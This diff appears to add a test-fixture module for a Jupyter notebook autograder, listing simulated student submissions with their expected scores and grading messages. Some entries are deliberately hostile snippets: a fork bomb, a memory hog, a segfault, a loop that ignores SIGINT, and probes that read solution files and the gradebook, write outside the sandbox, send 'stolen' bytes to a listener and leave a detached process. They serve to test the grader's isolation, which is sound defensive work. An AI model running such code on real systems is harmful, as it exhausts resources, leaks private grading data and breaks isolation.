@@ -1,0 +1,234 @@
+"""Submissions of exercise 1 as students really hand them in, good and bad,
+each with the score, status and reason the grader must give it.
+
+Lesson 1's graded tests, in order: MySequential 3, ParallelBlock 2,
+make_stack 2, FixedHiddenMLP 3 points (10 in all).
+"""
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+
+import submissions
+
+A = "01_blocks"
+FULL = 10
+
+
+@dataclass
+class Case:
+    name: str          # the entry in the submissions folder
+    student: str       # the student id expected in the CSV
+    score: float
+    status: str
+    detail: str        # a part of the detail column ("" means the detail must be empty)
+    write: object      # function(folder) that creates the entry
+
+
+def _grade_id(cell):
+    return cell.metadata.get("nbgrader", {}).get("grade_id")
+
+
+def _index(nb, grade_id):
+    return next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)
+
+
+def _answer_prefix(code):
+    """A correct submission whose make_stack answer starts with `code`."""
+    nb = submissions.answered(A)
+    cell = nb.cells[_index(nb, "make_stack")]
+    cell.source = cell.source.replace("def make_stack(factory, n):\n", "def make_stack(factory, n):\n" + code, 1)
+    return nb
+
+
+def _extra_cell_first(code):
+    """A correct submission with one extra cell of the student's right after the imports."""
+    nb = submissions.answered(A)
+    nb.cells.insert(3, nbformat.v4.new_code_cell(code))
+    return nb
+
+
+def _notebook(name, build):
+    def write(folder: Path):
+        nbformat.write(build(), folder / name)
+    return write
+
+
+def _raw(name, data: bytes):
+    def write(folder: Path):
+        (folder / name).write_bytes(data)
+    return write
+
+
+def _edited_tests():
+    wrong = submissions.first_wrong(A)
+    nb = submissions.answered(A, {wrong.answer_id: wrong.code})
+    nb.cells[_index(nb, "test_MySequential")].source = "pass  # my tests pass now"
+    return nb
+
+
+def _deleted_tests():
+    nb = submissions.answered(A)
+    del nb.cells[_index(nb, "test_ParallelBlock")]
+    return nb
+
+
+def _deleted_answer():
+    nb = submissions.answered(A)
+    del nb.cells[_index(nb, "ParallelBlock")]
+    return nb
+
+
+def _reordered():
+    nb = submissions.answered(A)
+    test = nb.cells.pop(_index(nb, "test_make_stack"))
+    nb.cells.insert(_index(nb, "make_stack"), test)
+    return nb
+
+
+def _retyped():
+    nb = submissions.answered(A)
+    i = _index(nb, "test_ParallelBlock")
+    old = nb.cells[i]
+    nb.cells[i] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
+    return nb
+
+
+def _points():
+    wrong = submissions.first_wrong(A)
+    nb = submissions.answered(A, {wrong.answer_id: wrong.code})
+    nb.cells[_index(nb, "test_MySequential")].metadata["nbgrader"]["points"] = 100
+    return nb
+
+
+def _kernelspec():
+    nb = submissions.answered(A)
+    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
+    return nb
+
+
+def _stripped():
+    nb = submissions.answered(A)
+    for cell in nb.cells:
+        cell.metadata.pop("nbgrader", None)
+        cell.metadata.pop("deletable", None)
+        cell.metadata.pop("editable", None)
+    return nb
+
+
+def _nbformat3(folder: Path):
+    nb = nbformat.convert(submissions.answered(A), 3)
+    (folder / "old_format.ipynb").write_text(nbformat.writes(nb, version=3), encoding="utf-8")
+
+
+def _two_files(folder: Path):
+    student = folder / "twice"
+    student.mkdir()
+    nbformat.write(submissions.exercise(A), student / "untitled.ipynb")
+    nbformat.write(submissions.answered(A), student / f"{A}.ipynb")
+
+
+def _nbgrader_layout(folder: Path):
+    target = folder / "nested" / A
+    target.mkdir(parents=True)
+    nbformat.write(submissions.answered(A), target / f"{A}.ipynb")
+
+
+def cases(listener_port: int, course_root: Path, submissions_dir: Path) -> list[Case]:
+    """Every case; the isolation ones aim at this machine's real paths and a live listener."""
+    wrong = submissions.first_wrong(A)
+    solution_file = Path(submissions.ROOT) / "solutions" / A / f"{A}.ipynb"
+    probes = {
+        "reads_solutions": f"""
+for path in [{str(solution_file)!r}, {str(course_root / 'solutions' / A / (A + '.ipynb'))!r},
+             {str(course_root / 'gradebook.db')!r}, {str(submissions_dir / 'correct.ipynb')!r}]:
+    try:
+        open(path).read(10)
+        print("LEAKED", path)
+    except OSError as exc:
+        print("BLOCKED", type(exc).__name__)
+""",
+        "writes_outside": f"""
+for path in [{str(course_root / 'pwned.txt')!r}, {str(submissions_dir / 'pwned.txt')!r},
+             {str(Path(submissions.ROOT) / 'pwned.txt')!r}]:
+    try:
+        open(path, "w").write("x")
+        print("WROTE", path)
+    except OSError as exc:
+        print("BLOCKED", type(exc).__name__)
+""",
+        "opens_socket": f"""
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {listener_port}), timeout=2).sendall(b"stolen")
+    print("CONNECTED")
+except OSError as exc:
+    print("BLOCKED", type(exc).__name__)
+""",
+        "leaves_process": """
+import subprocess
+subprocess.Popen(["sleep", "4242"], start_new_session=True)
+print("SPAWNED")
+""",
+    }
+    found = [
+        Case("correct.ipynb", "correct", FULL, "graded", "", _notebook("correct.ipynb", lambda: submissions.answered(A))),
+        Case("blank.ipynb", "blank", 0, "graded", "failed: test_MySequential", _notebook("blank.ipynb", lambda: submissions.exercise(A))),
+        Case("one_wrong.ipynb", "one_wrong", FULL - 3, "graded", "failed: test_MySequential",
+             _notebook("one_wrong.ipynb", lambda: submissions.answered(A, {wrong.answer_id: wrong.code}))),
+        Case("loop_top.ipynb", "loop_top", FULL, "graded", "cell 4: timed out",
+             _notebook("loop_top.ipynb", lambda: _extra_cell_first("while True:\n    pass"))),
+        Case("loop_in_item.ipynb", "loop_in_item", FULL - 2, "graded", "test_make_stack: timed out",
+             _notebook("loop_in_item.ipynb", lambda: _answer_prefix("    while True:\n        pass\n"))),
+        Case("ignores_sigint.ipynb", "ignores_sigint", 5, "graded", "test_make_stack: a cell ran past",
+             _notebook("ignores_sigint.ipynb", lambda: _answer_prefix(
+                 "    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n"))),
+        Case("memory_hog.ipynb", "memory_hog", FULL - 2, "graded", "failed: test_make_stack",
+             _notebook("memory_hog.ipynb", lambda: _answer_prefix(
+                 "    hog = []\n    while True:\n        hog.append(bytearray(50_000_000))\n"))),
+        Case("fork_bomb.ipynb", "fork_bomb", FULL - 2, "graded", "failed: test_make_stack",
+             _notebook("fork_bomb.ipynb", lambda: _answer_prefix("    import os\n    while True:\n        os.fork()\n"))),
+        Case("os_exit.ipynb", "os_exit", 5, "graded", "test_make_stack: the kernel exited with status 3",
+             _notebook("os_exit.ipynb", lambda: _answer_prefix("    import os\n    os._exit(3)\n"))),
+        Case("sys_exit.ipynb", "sys_exit", FULL - 2, "graded", "failed: test_make_stack",
+             _notebook("sys_exit.ipynb", lambda: _answer_prefix("    import sys\n    sys.exit(1)\n"))),
+        Case("segfault.ipynb", "segfault", 0, "graded", "cell 4: the kernel was killed by signal 11",
+             _notebook("segfault.ipynb", lambda: _extra_cell_first("import ctypes\nctypes.string_at(0)"))),
+        Case("huge_output.ipynb", "huge_output", FULL, "graded", "test_make_stack: output truncated",
+             _notebook("huge_output.ipynb", lambda: _answer_prefix("    print('x' * 20_000_000)\n"))),
+        Case("edited_tests.ipynb", "edited_tests", FULL - 3, "graded", "test_MySequential: read-only cell was edited",
+             _notebook("edited_tests.ipynb", _edited_tests)),
+        Case("deleted_tests.ipynb", "deleted_tests", FULL, "graded", "test_ParallelBlock: deleted",
+             _notebook("deleted_tests.ipynb", _deleted_tests)),
+        Case("deleted_answer.ipynb", "deleted_answer", FULL - 2, "graded", "ParallelBlock: deleted",
+             _notebook("deleted_answer.ipynb", _deleted_answer)),
+        Case("reordered.ipynb", "reordered", FULL, "graded", "out of the released order",
+             _notebook("reordered.ipynb", _reordered)),
+        Case("retyped.ipynb", "retyped", FULL, "graded", "test_ParallelBlock: cell type changed",
+             _notebook("retyped.ipynb", _retyped)),
+        Case("changed_points.ipynb", "changed_points", FULL - 3, "graded", "points changed to 100",
+             _notebook("changed_points.ipynb", _points)),
+        Case("kernelspec.ipynb", "kernelspec", FULL, "graded", "kernel changed to 'ir'",
+             _notebook("kernelspec.ipynb", _kernelspec)),
+        Case("stripped.ipynb", "stripped", FULL, "graded", "matched to the released cells by content",
+             _notebook("stripped.ipynb", _stripped)),
+        Case("empty.ipynb", "empty", 0, "invalid", "empty file", _raw("empty.ipynb", b"")),
+        Case("truncated.ipynb", "truncated", 0, "invalid", "not valid JSON",
+             _raw("truncated.ipynb", nbformat.writes(submissions.answered(A)).encode()[:5000])),
+        Case("essay.docx", "essay", 0, "invalid", "binary file", _raw("essay.docx", bytes(range(256)) * 4)),
+        Case("notes.ipynb", "notes", 0, "invalid", "JSON but not a Jupyter notebook",
+             _raw("notes.ipynb", json.dumps({"title": "my notes"}).encode())),
+        Case("old_format.ipynb", "old_format", FULL, "graded", "converted from nbformat 3", _nbformat3),
+        Case("José María Ñúñez.ipynb", "José María Ñúñez", FULL, "graded", "",
+             _notebook("José María Ñúñez.ipynb", lambda: submissions.answered(A))),
+        Case("twice", "twice", FULL, "graded", "2 files; graded twice/01_blocks.ipynb", _two_files),
+        Case("nested", "nested", FULL, "graded", "", _nbgrader_layout),
+    ]
+    for name, code in probes.items():
+        found.append(Case(f"{name}.ipynb", name, FULL, "graded", "",
+                          _notebook(f"{name}.ipynb", lambda code=code: _extra_cell_first(code))))
+    return found
